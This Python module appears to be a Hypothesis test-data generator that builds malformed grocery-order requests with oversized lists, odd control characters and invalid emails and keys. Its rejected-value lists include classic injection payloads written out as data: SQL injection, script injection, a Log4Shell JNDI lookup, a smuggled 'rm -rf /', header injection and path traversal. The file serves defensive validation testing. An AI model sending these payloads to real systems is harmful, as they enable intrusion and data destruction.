"""Lists that break the contract, drawn: too long, of the wrong kind, or with odd characters."""

from collections.abc import Mapping
from dataclasses import dataclass

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from harness.model import Json
from scenarios.baskets import Basket, one_basket


@dataclass(frozen=True)
class WrongList:
    """What is given in place of what a good list's request holds; None is left out."""

    good: Basket
    given: Mapping[str, Json]


_STRANGE = st.sampled_from("\x00\x07\x1b\x7f\u00ad\u202e\u2028\ufeff漢😀")
"""Characters that nobody's groceries need: controls, what turns or hides text, emoji."""
_NO_TEXT = st.sampled_from([None, 7, True, ["2 rice"], {"text": "2 rice"}])

_LISTS = st.one_of(
    st.sampled_from(["", " 2 rice", "\n"]),
    st.integers(1201, 9000).map(lambda length: "a" * length),
    _STRANGE.map(lambda one: f"2 rice{one}3 egg"),
    _NO_TEXT,
)
_NO_EMAILS = (
    "", "ada", "ada@", "@example.com", "ada@@example.com", "ada@example", "a b@example.com",
    "ada@example.com\r\nBcc: all@example.com", "' OR '1'='1", "<script>alert(1)</script>",
    "${jndi:ldap://example.com/a}", "ada@example.com; rm -rf /", "../../etc/passwd",
)  # fmt: skip
_EMAILS = st.one_of(
    st.sampled_from(_NO_EMAILS),
    st.integers(65, 300).map(lambda length: f"{'a' * length}@example.com"),
    _STRANGE.map(lambda one: f"ada{one}@example.com"),
    _NO_TEXT,
)
_KEYS = st.one_of(
    st.sampled_from([None, "short", "with spaces", "'; DROP TABLE Orders; --", "../../orders"]),
    st.integers(65, 400).map(lambda length: "k" * length),
)


def wrong_lists(count: tuple[int, int]) -> SearchStrategy[tuple[WrongList, ...]]:
    """Many at once, each wrong in one way."""
    given = st.one_of(
        _LISTS.map(lambda value: {"groceryList": value}),
        _EMAILS.map(lambda value: {"customerEmail": value}),
        _KEYS.map(lambda value: {"idempotencyKey": value}),
    )
    one = st.builds(WrongList, good=one_basket(), given=given)
    return st.lists(one, min_size=count[0], max_size=count[1]).map(tuple)
